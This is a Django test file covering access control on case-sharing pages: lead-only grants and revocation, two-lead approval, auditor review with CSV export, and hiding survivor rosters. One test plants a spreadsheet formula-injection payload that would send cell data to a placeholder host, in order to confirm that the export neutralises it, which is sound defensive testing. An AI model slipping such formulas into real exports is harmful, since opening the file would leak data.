"""Sharing pages: only the owner's coalition leads grant and revoke; leads and auditors review."""

from __future__ import annotations

import datetime
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from audit.actions import Action
from audit.models import AuditEvent
from cases.models import ApprovalState, Grant, GrantLevel, GrantState
from tests.sharing.conftest import ShareWorld, approve_originals_abroad, second_lead

OUTSIDERS = ["member", "investigator", "mhpss", "auditor", "other_member", "outsider", "admin"]


def _grant_data(sw: ShareWorld, **overrides: Any) -> dict[str, Any]:
    data = {
        "grantee_team": sw.world.team_tcc.pk,
        "level": "redacted",
        "rights": ["view", "download"],
        "purpose": "joint complaint before the national court",
        "expires_on": (timezone.localdate() + datetime.timedelta(days=30)).isoformat(),
    }
    data.update(overrides)
    return data


def test_lead_grants_from_the_page(sw: ShareWorld, login: Any) -> None:
    sw.consent_to_foreign_team()
    client = login(sw.world.lead)
    url = reverse("sharing:grants", args=[sw.case.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, _grant_data(sw))
    assert response.status_code == 302
    grant = Grant.objects.get()
    assert grant.level == "redacted" and grant.rights == ["download", "view"]
    assert "Sharing with other teams" in client.get(reverse("cases:detail", args=[sw.case.pk])).content.decode()


def test_refusal_is_shown_and_the_input_kept(sw: ShareWorld, login: Any) -> None:
    response = login(sw.world.lead).post(reverse("sharing:grants", args=[sw.case.pk]), _grant_data(sw))
    assert response.status_code == 400
    body = response.content.decode()
    assert "S-CAF-0101" in body and "joint complaint before the national court" in body
    assert not Grant.objects.exists()


def test_residency_is_explained(sw: ShareWorld, login: Any) -> None:
    sw.world.org_car.originals_stay_in_jurisdiction = True
    sw.world.org_car.save()
    body = login(sw.world.lead).get(reverse("sharing:grants", args=[sw.case.pk])).content.decode()
    assert "redacted copies only" in body


@pytest.mark.parametrize("who", OUTSIDERS)
def test_only_the_lead_reaches_the_grants_page(sw: ShareWorld, login: Any, who: str) -> None:
    sw.consent_to_foreign_team()
    client = login(getattr(sw.world, who))
    url = reverse("sharing:grants", args=[sw.case.pk])
    assert client.get(url).status_code == 404
    assert client.post(url, _grant_data(sw)).status_code == 404
    assert not Grant.objects.exists()


@pytest.mark.parametrize("who", OUTSIDERS)
def test_only_the_lead_revokes(sw: ShareWorld, login: Any, who: str) -> None:
    sw.consent_to_foreign_team()
    grant = sw.grant()
    response = login(getattr(sw.world, who)).post(reverse("sharing:revoke", args=[grant.pk]))
    assert response.status_code == 404
    grant.refresh_from_db()
    assert grant.state == GrantState.ACTIVE


def test_revocation_removes_access_in_the_open_session(sw: ShareWorld, login: Any) -> None:
    from django.test import Client

    sw.consent_to_foreign_team()
    grant = sw.grant()
    foreign = login(sw.world.other_member, Client(headers={"X-Forwarded-Proto": "https"}))
    assert foreign.get(reverse("cases:detail", args=[sw.case.pk])).status_code == 200
    lead = login(sw.world.lead)
    assert lead.post(reverse("sharing:revoke", args=[grant.pk]), {"reason": "done"}).status_code == 302
    assert foreign.get(reverse("cases:detail", args=[sw.case.pk])).status_code == 404
    assert AuditEvent.objects.filter(action=Action.GRANT_REVOKED).count() == 1


@pytest.mark.parametrize("who", OUTSIDERS)
def test_only_the_lead_asks_for_approval(sw: ShareWorld, login: Any, who: str) -> None:
    response = login(getattr(sw.world, who)).post(
        reverse("sharing:request_approval", args=[sw.case.pk]),
        {"approval-grantee_team": sw.world.team_tcc.pk, "approval-purpose": "originals for the forensic examiner"},
    )
    assert response.status_code == 404


def test_second_lead_approves_from_the_page_but_not_the_requester(sw: ShareWorld, login: Any) -> None:
    lead = login(sw.world.lead)
    lead.post(
        reverse("sharing:request_approval", args=[sw.case.pk]),
        {"approval-grantee_team": sw.world.team_tcc.pk, "approval-purpose": "originals for the forensic examiner"},
    )
    from cases.models import ApprovalRequest

    approval = ApprovalRequest.objects.get()
    lead.post(reverse("sharing:decide", args=[approval.pk]), {"decision": "approve"})
    approval.refresh_from_db()
    assert approval.state == ApprovalState.PENDING
    from django.test import Client

    other = login(second_lead(sw.world), Client(headers={"X-Forwarded-Proto": "https"}))
    for who in ("member", "other_member", "outsider"):
        denied = login(getattr(sw.world, who), Client(headers={"X-Forwarded-Proto": "https"}))
        assert denied.post(reverse("sharing:decide", args=[approval.pk]), {"decision": "approve"}).status_code == 404
    other.post(reverse("sharing:decide", args=[approval.pk]), {"decision": "approve"})
    approval.refresh_from_db()
    assert approval.state == ApprovalState.APPROVED


@pytest.mark.parametrize("who", ["lead", "auditor"])
def test_access_review_and_csv_for_leads_and_auditors(sw: ShareWorld, login: Any, who: str) -> None:
    sw.consent_to_foreign_team()
    sw.grant()
    client = login(getattr(sw.world, who), sudo=True)
    page = client.get(reverse("sharing:review"))
    assert page.status_code == 200 and "joint complaint" in page.content.decode()
    export = client.get(reverse("sharing:review"), {"format": "csv"})
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    assert "Dhaka team" in export.content.decode()
    assert AuditEvent.objects.filter(action=Action.ACCESS_REVIEW_EXPORTED).count() == 1


def test_access_review_csv_asks_for_the_password_again_first(sw: ShareWorld, login: Any) -> None:
    sw.consent_to_foreign_team()
    sw.grant()
    export = login(sw.world.lead).get(reverse("sharing:review"), {"format": "csv"})
    assert export.status_code == 302 and reverse("accounts:sudo") in export["Location"]
    assert not AuditEvent.objects.filter(action=Action.ACCESS_REVIEW_EXPORTED).exists()


def test_access_review_csv_does_not_let_a_purpose_run_as_a_formula(sw: ShareWorld, login: Any) -> None:
    sw.consent_to_foreign_team()
    grant = sw.grant()
    grant.purpose = '=HYPERLINK("http://x/?"&A1,"open")'
    grant.save(update_fields=["purpose"])
    body = login(sw.world.lead, sudo=True).get(reverse("sharing:review"), {"format": "csv"}).content.decode()
    assert "'=HYPERLINK" in body
    assert not any(cell.startswith("=") for line in body.splitlines() for cell in line.split(","))


@pytest.mark.parametrize("who", ["member", "mhpss", "other_member", "outsider"])
def test_access_review_refused_to_others(sw: ShareWorld, login: Any, who: str) -> None:
    assert login(getattr(sw.world, who)).get(reverse("sharing:review")).status_code == 404


def test_anonymous_is_sent_to_sign_in(sw: ShareWorld, client: Any) -> None:
    for url in (reverse("sharing:grants", args=[sw.case.pk]), reverse("sharing:review")):
        assert client.get(url).status_code == 302


@pytest.mark.parametrize("level", [GrantLevel.METADATA, GrantLevel.REDACTED])
def test_grantee_does_not_see_the_survivor_roster(sw: ShareWorld, login: Any, level: str) -> None:
    sw.consent_to_foreign_team()
    sw.grant(level=level)
    page = login(sw.world.other_member).get(reverse("cases:detail", args=[sw.case.pk]))
    assert page.status_code == 200
    assert sw.survivor.code not in page.content.decode()
    assert sw.survivor.code in login(sw.world.member).get(reverse("cases:detail", args=[sw.case.pk])).content.decode()


def test_grantee_of_originals_sees_the_survivor_roster(sw: ShareWorld, login: Any) -> None:
    sw.consent_to_foreign_team()
    approve_originals_abroad(sw)
    sw.grant(level=GrantLevel.ORIGINALS)
    page = login(sw.world.other_member).get(reverse("cases:detail", args=[sw.case.pk]))
    assert sw.survivor.code in page.content.decode()
